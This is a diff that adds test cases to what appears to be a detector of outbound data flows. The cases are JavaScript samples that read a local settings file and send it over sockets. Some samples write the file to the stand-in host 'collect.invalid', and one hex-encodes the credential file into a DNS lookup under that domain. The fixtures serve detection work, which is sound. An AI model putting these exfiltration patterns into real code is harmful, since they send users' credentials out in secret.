@@ -35,6 +35,39 @@ describe('a client that fails where a host answers with an error', () => {
   });
 });
 
+describe('a socket to another program on the machine', () => {
+  const sent = (address: string, then = ''): readonly string[] =>
+    flowsOf(
+      `const net = require('net'); const settings = fs.readFileSync(rc, 'utf8'); ${then || `net.connect(${address}).write(settings);`}`,
+    );
+
+  it('takes nothing away', () => {
+    for (const address of [
+      `'/run/some.sock'`,
+      `require('path').join(os.tmpdir(), 'some', 'd.sock'), () => go()`,
+      `'\\\\\\\\.\\\\pipe\\\\some'`,
+    ])
+      assert.deepEqual(sent(address), [], address);
+    assert.deepEqual(sent('', `new net.Socket().connect('/run/some.sock').write(settings);`), []);
+  });
+
+  it('is told no setting that says which one', () => {
+    assert.deepEqual(sent('', `net.connect(JSON.parse(settings).daemon, () => go());`), []);
+  });
+
+  it('is none where a host is named', () => {
+    assert.deepEqual(sent(`443, 'collect.invalid'`), [SENT]);
+    assert.deepEqual(sent(`{ host: 'collect.invalid', port: 443 }`), [SENT]);
+  });
+});
+
+describe('a socket to a host whose name holds data', () => {
+  it('asks that domain for it', () => {
+    const code = `require('net').connect(53, fs.readFileSync(rc, 'hex') + '.collect.invalid');`;
+    assert.deepEqual(flowsOf(code), ['credential-file>dns@collect.invalid']);
+  });
+});
+
 describe('a socket to where the page comes from', () => {
   it('tells what its own server says', () => {
     const load = (address: string): readonly string[] =>
